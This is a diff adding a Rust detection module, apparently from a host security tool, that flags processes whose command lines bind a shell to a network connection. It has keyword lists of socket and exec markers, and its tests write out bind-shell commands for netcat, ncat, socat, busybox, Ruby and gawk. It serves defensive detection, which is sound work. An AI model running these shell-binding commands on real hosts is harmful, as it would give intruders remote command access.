@@ -1,0 +1,196 @@
+//! What a command line itself says: code that opens a connection and runs commands, or a tool that was told to
+//! connect a shell.
+
+use crate::model::{Process, ProgramKind, Text, program::base_name};
+
+/// What opens a connection or takes one, in the languages that one-liners are written in.
+const OPENS: &[&str] = &[
+    "/inet/",
+    "/inet4/",
+    "/inet6/",
+    "socket",
+    "fsockopen",
+    "tcpserver",
+    "\"net\"",
+    "'net'",
+    "net.connect",
+];
+/// What runs commands.
+const RUNS: &[&str] = &[
+    "/bin/sh",
+    "/bin/bash",
+    "popen",
+    "proc_open",
+    "shell_exec",
+    "passthru",
+    "system(",
+    "subprocess",
+    "child_process",
+    "exec(",
+    "pty.spawn",
+];
+/// Behind which code stands.
+const CODE: &[&str] = &["-c", "-e", "-E", "-r", "-ne", "-le", "--eval", "--execute"];
+/// Behind which a command of netcat stands.
+const COMMAND: &[&str] = &["--exec", "--sh-exec", "--lua-exec"];
+/// The most of a command line that is looked at.
+const LONGEST: usize = 8192;
+
+/// Returns what the command line of `process` says it runs for whoever is at the other end, when it does.
+pub(super) fn runs_commands(process: &Process) -> Option<String> {
+    let arguments = process.cmdline.known()?;
+    let base = base_name(&process.name);
+    let mut rest = arguments.get(1..)?;
+    if base == "busybox" {
+        let is_netcat = |name: Option<&Text>| name.is_some_and(|name| name.ends_with("nc"));
+        if is_netcat(rest.first()) {
+            rest = rest.get(1..)?;
+        } else if !is_netcat(arguments.first()) {
+            return None;
+        }
+        return connects_shell(rest);
+    }
+    match ProgramKind::of(&process.name) {
+        ProgramKind::Connector => connects_shell(rest),
+        ProgramKind::Interpreter => one_liner(base, rest),
+        ProgramKind::Shell
+        | ProgramKind::Forwarder
+        | ProgramKind::Tunnel
+        | ProgramKind::Ordinary => None,
+    }
+}
+
+/// The shell that netcat or socat was told to connect.
+fn connects_shell(arguments: &[Text]) -> Option<String> {
+    let before = [None].into_iter().chain(arguments.iter().map(Some));
+    arguments.iter().zip(before).find_map(|(argument, option)| {
+        let told = option.is_some_and(|option| takes_command(option)) && names_shell(argument, 1)
+            || argument
+                .split_once('=')
+                .is_some_and(|(option, command)| takes_command(option) && names_shell(command, 1))
+            || is_address_of_shell(argument);
+        told.then(|| argument.to_string())
+    })
+}
+
+/// `-e`, `-c`, several letters that end in one of them, or its long form.
+fn takes_command(option: &str) -> bool {
+    COMMAND.contains(&option)
+        || option.strip_prefix('-').is_some_and(|letters| {
+            letters.ends_with(['e', 'c'])
+                && letters.bytes().all(|letter| letter.is_ascii_alphabetic())
+        })
+}
+
+/// socat's `EXEC:/bin/sh,pty`, or `SYSTEM:` with a shell in it.
+fn is_address_of_shell(argument: &str) -> bool {
+    let Some((kind, command)) = argument.split_once(':') else {
+        return false;
+    };
+    let words = match kind.to_ascii_lowercase().as_str() {
+        "exec" => 1,
+        "system" | "shell" => usize::MAX,
+        _ => return false,
+    };
+    names_shell(command, words)
+}
+
+/// Whether one of the first `words` of a command is a shell.
+fn names_shell(command: &str, words: usize) -> bool {
+    let all = command.split([' ', ',', ';', '\'', '"']);
+    all.filter(|word| !word.is_empty()).take(words).any(|word| {
+        let file = word.rsplit('/').next().unwrap_or(word);
+        ProgramKind::of(file) == ProgramKind::Shell
+    })
+}
+
+/// Code on the command line that opens a connection and runs commands.
+fn one_liner(base: &str, arguments: &[Text]) -> Option<String> {
+    let is_awk = base.ends_with("awk");
+    if !is_awk
+        && !arguments
+            .iter()
+            .any(|argument| CODE.contains(&argument.as_str()))
+    {
+        return None;
+    }
+    let code = arguments.join(" ");
+    let mut end = code.len().min(LONGEST);
+    while !code.is_char_boundary(end) {
+        end -= 1;
+    }
+    let looked_at = code.get(..end)?.to_ascii_lowercase();
+    let has = |list: &[&str]| list.iter().any(|word| looked_at.contains(word));
+    // Awk reads a connection and a command by the same words: it takes both to be a shell.
+    let runs = has(RUNS) || is_awk && looked_at.matches("|& getline").count() > 1;
+    (has(OPENS) && runs).then_some(code)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::model::{Fact, fixture};
+
+    fn says(file: &str, arguments: &[&str]) -> bool {
+        let process = Process {
+            cmdline: Fact::Known(arguments.iter().map(|one| Text::from(*one)).collect()),
+            ..fixture::process(file, 7)
+        };
+        runs_commands(&process).is_some()
+    }
+
+    #[test]
+    fn a_tool_that_was_told_to_connect_a_shell_is_known_before_anybody_calls() {
+        assert!(says(
+            "nc.traditional",
+            &["nc", "-l", "-p", "1", "-e", "/bin/sh"]
+        ));
+        assert!(says("nc.traditional", &["nc", "-lvpe", "/bin/bash"]));
+        assert!(says("ncat", &["ncat", "-l", "--exec", "/bin/bash -i"]));
+        assert!(says("ncat", &["ncat", "-l", "--sh-exec=bash"]));
+        assert!(says(
+            "socat",
+            &["socat", "TCP-LISTEN:1", "EXEC:'bash -li',pty"]
+        ));
+        assert!(says(
+            "socat",
+            &["socat", "TCP-LISTEN:1", "system:exec sh -i"]
+        ));
+        assert!(says(
+            "busybox",
+            &["busybox", "nc", "-l", "-p", "1", "-e", "sh"]
+        ));
+    }
+
+    #[test]
+    fn one_that_connects_anything_else_is_not() {
+        assert!(!says("nc.openbsd", &["nc", "-l", "1"]));
+        assert!(!says("ncat", &["ncat", "-l", "-e", "/bin/cat"]));
+        assert!(!says("socat", &["socat", "TCP-LISTEN:1", "TCP:sh:22"]));
+        assert!(!says("socat", &["socat", "TCP-LISTEN:1", "EXEC:/bin/cat"]));
+        assert!(!says("busybox", &["busybox", "sh", "-c", "sh"]));
+    }
+
+    #[test]
+    fn code_that_opens_a_connection_and_runs_commands_is_told_from_code_that_does_one() {
+        let ruby =
+            "s = TCPSocket.new(1); while c = s.gets; IO.popen(c) { |i| s.print i.read }; end";
+        assert!(says("ruby3.1", &["ruby", "-rsocket", "-e", ruby]));
+        let awk = "BEGIN { s = \"/inet/tcp/0/h/1\"; s |& getline c; c |& getline }";
+        assert!(says("gawk", &["gawk", awk]));
+        assert!(!says(
+            "gawk",
+            &["gawk", "BEGIN { \"/inet/tcp/0/h/80\" |& getline }"]
+        ));
+        assert!(!says(
+            "python3.11",
+            &["python3", "-c", "import socket; socket.create_server(1)"]
+        ));
+        assert!(!says("python3.11", &["python3", "-c", "import subprocess"]));
+        assert!(!says(
+            "python3.11",
+            &["python3", "/srv/socket.py", "exec()"]
+        ));
+        assert!(!says("bash", &["bash", "-c", "exec 3<>/dev/tcp/h/1"]));
+    }
+}
